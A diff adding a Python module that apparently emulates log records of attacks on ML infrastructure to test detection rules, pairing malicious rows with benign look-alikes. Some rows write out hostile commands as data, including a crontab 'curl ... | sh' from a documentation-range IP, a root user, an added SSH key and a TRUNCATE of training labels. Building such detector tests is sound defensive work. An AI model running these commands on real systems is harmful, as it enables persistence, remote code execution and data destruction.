@@ -1,0 +1,174 @@
+"""Deeds by which models, the data that they learn from, or their secrets are taken or exchanged."""
+
+from collections.abc import Iterator
+from typing import Any, Final
+
+from caponier.emulate.deeds.attack_step import THIEF, AttackStep, Row, aws, google, kubernetes, process, requested
+
+_EVE: Final = "user eve"
+_ADA: Final = "user ada"
+_DESK: Final = "10.8.0.21"
+_HOST: Final = "gpu-01.ml.example.org"
+_REFUSED: Final[dict[str, Any]] = {"errorCode": "AccessDenied"}
+_KUBE: Final = "system:serviceaccount:kube-system:daemon-set-controller"
+
+
+def _secret(
+    name: str = "i-0ml", call: str = "GetSecretValue", address: str = THIEF, who: str = _EVE, **more: Any
+) -> Row:
+    return aws(who, address, "secretsmanager", call, {"secretId": name}, **more)
+
+
+def _vault(operation: str, path: str, address: str = THIEF) -> Row:
+    return {
+        "type": "response", "auth": {"display_name": "eve"},
+        "request": {"operation": operation, "path": path, "remote_address": address},
+    }  # fmt: skip
+
+
+def _files(count: int, address: str = THIEF, **more: Any) -> tuple[Row, ...]:
+    def read(number: int) -> Row:
+        about = {"bucketName": "ml-models", "key": f"digits/{number}/model.onnx"}
+        return aws(_EVE, address, "s3", "GetObject", about, **more)
+
+    return tuple(map(read, range(count)))
+
+
+def _objects(count: int) -> Iterator[Row]:
+    for number in range(count):
+        path = f"projects/_/buckets/ml-models/objects/digits/{number}.safetensors"
+        yield google("eve", THIEF, "storage", "storage.objects.get", path)
+
+
+def _blobs(count: int) -> Iterator[Row]:
+    for number in range(count):
+        yield {
+            "category": "StorageRead", "operationName": "GetBlob", "statusCode": 200,
+            "callerIpAddress": f"{THIEF}:4{number}12", "identity": {"type": "OAuth", "requester": {"upn": "eve"}},
+            "uri": f"https://ml-models.blob.core.windows.net/m/{number}.onnx",
+            "resourceId": "/subscriptions/s/resourceGroups/ml/providers/Microsoft.Storage/storageAccounts/ml-models",
+            "properties": {"accountName": "ml-models", "objectKey": f"/ml-models/m/{number}.onnx"},
+        }  # fmt: skip
+
+
+def _pod(who: str = "eve", **spec: Any) -> Row:
+    return kubernetes(who, "10.8.0.3", "create", "pods", {"spec": spec})
+
+
+def _stated(statement: str, severity: str = "LOG") -> Row:
+    return {
+        "timestamp": None, "user": "eve", "dbname": "i-0ml", "pid": 7, "remote_host": _DESK,
+        "error_severity": severity, "message": f"statement: {statement}",
+    }  # fmt: skip
+
+
+def _grown(table: str, action: str = "added", **columns: str) -> Row:
+    return {
+        "name": f"pack_incident_{table}", "hostIdentifier": _HOST, "unixTime": None, "action": action,
+        "columns": columns or {"key_file": "/root/.ssh/authorized_keys"},
+    }  # fmt: skip
+
+
+SECRET: Final = AttackStep(
+    "a secret of an ML system read from elsewhere",
+    (
+        (_secret(),),
+        (google("eve", THIEF, "secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
+                "projects/ml/secrets/i-0ml/versions/1"),),
+        (_vault("read", "kv/data/i-0ml"),),
+    ),
+    (
+        (_secret(address=_DESK, who=_ADA),),
+        (_secret(**_REFUSED),),
+        (_secret("of-others"),),
+        (_secret(call="DescribeSecret"),),
+        (_vault("list", "kv/metadata/i-0ml"),),
+    ),
+)  # fmt: skip
+
+WEIGHTS: Final = AttackStep(
+    "several models read from elsewhere",
+    (_files(6), tuple(_objects(6)), tuple(_blobs(6))),
+    (_files(3), _files(6, _DESK), _files(6, **_REFUSED)),
+)
+
+ESCAPE: Final = AttackStep(
+    "a workload that reaches its host",
+    (
+        (_pod(containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
+        (_pod(hostPID=True, containers=[{"image": "u"}]),),
+        (_pod(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/"}}]),),
+    ),
+    (
+        (_pod(_KUBE, containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
+        (_pod(containers=[{"image": "u", "securityContext": {"privileged": False}}]),),
+        (_pod(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/srv/training"}}]),),
+    ),
+)
+
+EDITED: Final = AttackStep(
+    "labels edited by hand",
+    (
+        (_stated("UPDATE labels SET y = 0 WHERE shop = 7"),),
+        (_stated("delete from labels where y = 1"),),
+        (_stated("TRUNCATE TABLE labels"),),
+    ),
+    (
+        (_stated("SELECT y FROM labels FOR UPDATE"),),
+        (_stated("INSERT INTO labels SELECT id, y FROM review"),),
+        (_stated("UPDATE labels SET y = 0", "ERROR"),),
+    ),
+)
+
+SERVED: Final = AttackStep(
+    "a model or a file of secrets handed out by a web server",
+    (
+        (requested(THIEF, "GET", "/static/digits.onnx"),),
+        (requested(THIEF, "GET", "/.git/config"),),
+        (requested(THIEF, "GET", "/backup/.env"),),
+    ),
+    (
+        (requested(THIEF, "GET", "/static/digits.onnx", 403),),
+        (requested(_DESK, "GET", "/static/digits.onnx"),),
+        (requested(THIEF, "GET", "/docs/onnx.html"),),
+    ),
+)
+
+GROWN: Final = AttackStep(
+    "a key or a task new on a host",
+    (
+        (_grown("authorized_keys"),),
+        (_grown("crontab", command="curl http://198.51.100.9/x | sh"),),
+        (_grown("users", uid="0", username="eve"),),
+    ),
+    (
+        (_grown("authorized_keys", "removed"),),
+        (_grown("users", uid="1004", username="ada"),),
+        (_grown("deb_packages", name="vim"),),
+    ),
+)
+
+REPLACED: Final = AttackStep(
+    "a model file replaced by hand",
+    (
+        (process("cp /tmp/.x/m.safetensors /srv/models/digits.safetensors", "/usr/bin/cp", "eve"),),
+        (process("mv /home/eve/m.onnx /opt/serving/digits/1/model.onnx", "/usr/bin/mv", "eve"),),
+        (process("curl -s http://198.51.100.9/m -o /models/digits.pt", "/usr/bin/curl", "eve"),),
+    ),
+    (
+        (process("cp /srv/stage/m.safetensors /srv/models/digits.safetensors", "/usr/bin/cp", "eve"),),
+        (process("cp /tmp/notes.txt /srv/models/README", "/usr/bin/cp", "eve"),),
+        (process("curl -s http://10.8.0.9/m -o /models/digits.pt", "/usr/bin/curl", "eve"),),
+    ),
+)
+
+DEEDS: Final = {
+    "asset_secret_read": SECRET,
+    "model_weights_read": WEIGHTS,
+    "workload_escapes": ESCAPE,
+    "training_rows_edited": EDITED,
+    "model_file_served": SERVED,
+    "host_table_grew": GROWN,
+    "model_file_replaced": REPLACED,
+}
+"""By the rule's name."""
